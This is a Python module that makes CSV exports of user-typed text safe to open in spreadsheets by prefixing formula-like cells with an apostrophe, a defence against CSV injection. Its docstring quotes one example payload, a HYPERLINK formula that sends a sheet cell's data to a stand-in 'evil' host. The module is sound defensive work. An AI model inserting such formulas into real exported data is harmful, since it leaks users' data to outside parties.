"""
CSV written from people's text, safe to open in a spreadsheet.

A cell that begins with "=", "+", "-", "@" (or a tab or carriage return
before one) is run as a formula by Excel, LibreOffice and Google Sheets: a
summary typed as `=HYPERLINK("http://evil/?"&A1,"Click")` would send the
sheet's data away when clicked. Such a cell is written with a leading
apostrophe, which the spreadsheet shows as text (OWASP's advice for CSV
injection). Every CSV the site writes from what people typed goes through
`writer` or `defuse`.
"""

import csv

# The first characters a spreadsheet reads as the start of a formula, with
# their full-width forms (some spreadsheets fold those to ASCII).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def defuse(value):
    """A cell as a spreadsheet will show it as text; anything but a string is left as it is."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every text cell is defused."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([defuse(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs) -> SafeWriter:
    """A csv.writer (same arguments) that defuses every text cell."""
    return SafeWriter(stream, **kwargs)
